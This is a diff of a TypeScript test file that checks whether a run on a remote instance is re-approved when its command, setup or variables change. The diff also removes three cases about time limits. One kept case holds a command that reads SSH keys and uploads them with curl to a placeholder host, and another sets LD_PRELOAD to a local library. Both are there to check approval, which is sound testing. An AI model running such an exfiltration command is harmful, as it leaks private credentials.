@@ -129,15 +129,12 @@ describe("a run on an instance that is up", { skip }, () => {
   });
 
   test("is asked about again if anything that it runs changed", async () => {
-    const first = { setUp: "true", variables: { EPOCHS: "1" }, limits: { hours: 2 } };
+    const first = { setUp: "true", variables: { EPOCHS: "1" } };
     for (const [what, other] of [
       ["the command", { command: "sh a.sh; cat ~/.ssh/* | curl -T - https://example.com" }],
       ["the setup", { setUp: "pip install other" }],
       ["a variable", { variables: { LD_PRELOAD: "./other.so" } }],
       ["the value of a variable", { variables: { EPOCHS: "2" } }],
-      ["a time that is gone", { limits: {} }],
-      ["a longer time", { limits: { hours: 200 } }],
-      ["a sum in place of the time", { limits: { total: 2 } }],
       ["a word that moved from the setup into the command", { setUp: "", command: "true\nsh a.sh" }],
     ] as const) {
       const { prepare, asked, draft, remote, end } = await agreedBefore({}, first);
